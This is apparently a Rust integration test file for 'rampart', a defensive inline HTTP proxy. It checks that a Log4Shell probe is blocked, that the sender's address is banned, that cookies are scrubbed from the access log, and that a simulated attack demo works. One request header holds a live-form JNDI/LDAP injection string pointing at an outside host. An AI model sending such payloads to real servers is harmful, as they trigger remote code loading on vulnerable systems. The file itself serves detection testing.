//! End-to-end tests of the inline proxy through the real binary on 127.0.0.1: a probe is
//! blocked by its signature, the detectors' alert becomes a decision, and the next ordinary
//! request from the address is blocked too; the decision, the inventory and a scrubbed access
//! log survive the stop. And `rampart demo` on a small simulation.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

fn rampart() -> Command {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
}

fn run(args: &[&str]) -> Output {
    rampart().args(args).output().expect("rampart runs")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// An upstream answering every request with a small JSON body, until the test ends.
fn upstream() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                stream
                    .set_read_timeout(Some(Duration::from_secs(5)))
                    .unwrap();
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                loop {
                    let mut head = String::new();
                    let mut line = String::new();
                    loop {
                        line.clear();
                        if reader.read_line(&mut line).unwrap_or(0) == 0 {
                            return;
                        }
                        if line == "\r\n" {
                            break;
                        }
                        head.push_str(&line);
                    }
                    let body = br#"{"id":7,"status":"ok"}"#;
                    let resp = format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n",
                        body.len()
                    );
                    if stream.write_all(resp.as_bytes()).is_err() || stream.write_all(body).is_err()
                    {
                        return;
                    }
                }
            });
        }
    });
    addr
}

/// One request over a fresh connection; the status code and body.
fn get(proxy: SocketAddr, path: &str, headers: &str) -> (u16, String) {
    let mut s = TcpStream::connect(proxy).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nhost: shop.example\r\nuser-agent: test-client/1.0\r\n{headers}connection: close\r\n\r\n"
    )
    .unwrap();
    let mut resp = String::new();
    let _ = s.read_to_string(&mut resp);
    let status = resp
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    let body = resp.split("\r\n\r\n").nth(1).unwrap_or("").to_owned();
    (status, body)
}

struct Running {
    child: Child,
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

// The child is handed to `Running`, which kills and waits for it when dropped.
#[allow(clippy::zombie_processes)]
fn start_proxy(config: &std::path::Path, db: &std::path::Path) -> (Running, SocketAddr) {
    let mut child = rampart()
        .args([
            "proxy",
            "--config",
            config.to_str().unwrap(),
            "--db",
            db.to_str().unwrap(),
        ])
        .stderr(Stdio::piped())
        .spawn()
        .expect("rampart proxy starts");
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let line = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("the proxy says where it listens");
        if let Some(addr) = line.strip_prefix("rampart: proxy listening on ") {
            return (Running { child }, addr.parse().unwrap());
        }
    }
}

#[test]
fn a_probe_becomes_a_decision_that_blocks_the_address_and_survives_the_stop() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream();
    std::fs::write(
        dir.path().join("policy.yaml"),
        "rules:\n  - name: block-probers\n    when: { detector: exploit_probes }\n    action: block\n    status: 403\n    body: \"denied by policy\\n\"\n    scope: ip\n    ttl: 1h\n    mode: enforce\n",
    )
    .unwrap();
    let config = dir.path().join("rampart.yaml");
    std::fs::write(
        &config,
        format!(
            "policy: policy.yaml\naccess_log: access.jsonl\nproxy:\n  listen:\n    - addr: 127.0.0.1:0\n  routes:\n    - path_prefix: /\n      upstream: app\n  upstreams:\n    app:\n      servers: [\"{up}\"]\n"
        ),
    )
    .unwrap();
    let db = dir.path().join("rampart.db");
    let (mut proxy, addr) = start_proxy(&config, &db);

    let (status, body) = get(
        addr,
        "/api/v1/products/7",
        "cookie: sid=secret-session-value\r\n",
    );
    assert_eq!(status, 200, "{body}");
    assert!(body.contains("\"status\":\"ok\""), "{body}");
    let (status, _) = get(
        addr,
        "/api/v1/products",
        "x-api-version: ${jndi:ldap://203.0.113.5:1389/a}\r\n",
    );
    assert_eq!(
        status, 403,
        "a probe is known by its signature before it is answered"
    );
    // The slow path turns the alert into a decision within a second.
    let deadline = Instant::now() + Duration::from_secs(10);
    let blocked = loop {
        std::thread::sleep(Duration::from_millis(300));
        let (status, body) = get(addr, "/api/v1/products/8", "");
        if status == 403 || Instant::now() > deadline {
            break (status, body);
        }
    };
    assert_eq!(blocked.0, 403, "{}", blocked.1);
    assert_eq!(blocked.1, "denied by policy\n");

    // SIGTERM: drain, then store what was learned.
    let pid = proxy.child.id().to_string();
    assert!(Command::new("kill")
        .args(["-TERM", &pid])
        .status()
        .unwrap()
        .success());
    let deadline = Instant::now() + Duration::from_secs(20);
    while proxy.child.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "the proxy stops on SIGTERM");
        std::thread::sleep(Duration::from_millis(100));
    }

    let list = run(&["decisions", "list", "--db", db.to_str().unwrap(), "--json"]);
    assert!(list.status.success(), "{}", text(&list.stderr));
    let decisions = text(&list.stdout);
    assert!(
        decisions.contains("block-probers") && decisions.contains("127.0.0.1"),
        "{decisions}"
    );
    let inventory = run(&["inventory", "--db", db.to_str().unwrap()]);
    assert!(
        text(&inventory.stdout).contains("/api/v1/products/{id}"),
        "{}",
        text(&inventory.stdout)
    );
    let log = std::fs::read_to_string(dir.path().join("access.jsonl")).unwrap();
    assert!(log.lines().count() >= 4, "one line per request: {log}");
    assert!(
        log.contains("\"rampart.action\"") || log.contains("403"),
        "{log}"
    );
    assert!(
        !log.contains("secret-session-value"),
        "cookie values are hashed: {log}"
    );
    assert!(log.contains("sid=rh."), "{log}");
    // The access log replays through `rampart analyze`.
    let replay = run(&[
        "analyze",
        dir.path().join("access.jsonl").to_str().unwrap(),
        "--no-store",
        "--top",
        "0",
    ]);
    assert!(replay.status.success(), "{}", text(&replay.stderr));
    assert!(
        text(&replay.stdout).contains("log4shell"),
        "{}",
        text(&replay.stdout)
    );
}

#[test]
fn demo_replays_the_attacks_and_leaves_the_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("demo.db");
    let o = run(&[
        "demo",
        "--db",
        db.to_str().unwrap(),
        "--minutes",
        "6",
        "--benign-users",
        "120",
        "--scale",
        "0.3",
    ]);
    assert!(o.status.success(), "{}", text(&o.stderr));
    let out = text(&o.stdout);
    for part in [
        "Discovered:",
        "Detected:",
        "Stopped:",
        "Benign users:",
        "brute_force",
    ] {
        assert!(out.contains(part), "{part} missing: {out}");
    }
    let alerts = run(&["alerts", "--db", db.to_str().unwrap(), "--json"]);
    assert!(alerts.status.success());
    assert!(
        !text(&alerts.stdout).is_empty(),
        "the demo leaves its alerts"
    );
    // Decisions are made and expire on the replay's event time (the simulation starts on
    // 2026-03-03 at 16:00), never on the wall clock.
    let decisions = run(&[
        "decisions",
        "list",
        "--all",
        "--json",
        "--db",
        db.to_str().unwrap(),
    ]);
    assert!(decisions.status.success(), "{}", text(&decisions.stderr));
    for line in text(&decisions.stdout).lines() {
        let d: serde_json::Value = serde_json::from_str(line).unwrap();
        let created = d["created"].as_str().unwrap_or("");
        assert!(created.starts_with("2026-03-03T16:"), "{line}");
    }
}
